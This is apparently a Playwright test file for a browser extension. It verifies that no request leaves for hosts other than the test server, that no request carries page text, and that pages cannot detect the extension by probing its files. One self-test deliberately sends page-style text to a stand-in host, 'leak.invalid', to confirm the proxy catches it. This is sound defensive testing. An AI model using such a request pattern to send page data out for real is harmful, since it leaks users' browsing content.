// Privacy: no request leaves for any host other than the test server, and no request carries page
// text. Every browser request goes through the server's logging proxy (e2e/server.ts); the same rules
// are also asserted over each worker's whole log when its browser closes (e2e/fixtures.ts), so they
// hold across the whole suite.
import { readdirSync } from 'node:fs';
import { assertPrivacy, expect, openPopup, test } from './fixtures';
import { DIST, tabIdOf, waitForScanComplete } from './harness';

test('the proxy sees and refuses requests to other hosts (self-test)', async ({ page, server, requestLog }) => {
  await page.goto(server.url('/thread-static'));
  const before = server.log.length;
  await page.evaluate(() => fetch('http://leak.invalid/collect?text=hello', { mode: 'no-cors' }).catch(() => undefined));
  const mine = server.log.slice(before).filter((r) => r.host === 'leak.invalid');
  expect(mine.length).toBe(1);
  expect(mine[0].violation).toBe(true);
  // Playwright's log saw it too.
  await expect.poll(() => requestLog.filter((r) => r.url.startsWith('http://leak.invalid/')).length).toBe(1);
  // Remove the deliberate violation so the suite-wide check stays meaningful.
  for (const r of mine) server.log.splice(server.log.indexOf(r), 1);
  for (let i = requestLog.length - 1; i >= 0; i--) if (requestLog[i].url.startsWith('http://leak.invalid/')) requestLog.splice(i, 1);
});

test('scanning pages, checking a selection and opening the popup send no page text anywhere', async ({ page, ext, server, requestLog }) => {
  for (const path of ['/thread', '/mixed', '/csp']) {
    await page.goto(server.url(path));
    await waitForScanComplete(ext, page);
  }
  const tabId = await tabIdOf(ext, page);
  const sw = await ext.sw();
  await sw.evaluate(
    (id) => (globalThis as unknown as { __wmlensTest: { checkSelection(id: number): Promise<unknown> } }).__wmlensTest.checkSelection(id),
    tabId,
  );
  const popup = await openPopup(ext, tabId);
  await expect(popup.getByTestId('summary')).toBeVisible();
  await popup.close();
  // Pages were fetched from the test server …
  expect(server.log.some((r) => r.url.endsWith('/thread'))).toBe(true);
  // … and nothing else, with no page text in any URL or body.
  assertPrivacy(server.log, requestLog, server.origin);
});

test('a page cannot tell the extension is installed by fetching its files', async ({ page, ext, server }) => {
  await page.goto(server.url('/thread'));
  await waitForScanComplete(ext, page);
  // The content script runs (the page was scanned), yet none of the extension's files is reachable from
  // the page: nothing is web-accessible (scripts/vite-content-script.ts).
  const manifest = (await (await ext.sw()).evaluate(() => chrome.runtime.getManifest())) as chrome.runtime.Manifest;
  expect(manifest.web_accessible_resources).toBeUndefined();
  // Every file of the build: scripts, chunks, pages, icons, the manifest.
  const files = readdirSync(DIST, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => `${e.parentPath.slice(DIST.length + 1)}/${e.name}`.replace(/^\//, ''));
  expect(files).toEqual(expect.arrayContaining(['manifest.json', ...(manifest.content_scripts?.[0]?.js ?? [])]));
  const reachable = await page.evaluate(
    async ({ id, files }) =>
      Promise.all(
        files.map((f) =>
          fetch(`chrome-extension://${id}/${f}`).then(
            () => f,
            () => null,
          ),
        ),
      ),
    { id: ext.extensionId, files },
  );
  expect(reachable.filter((f) => f !== null)).toEqual([]);
});
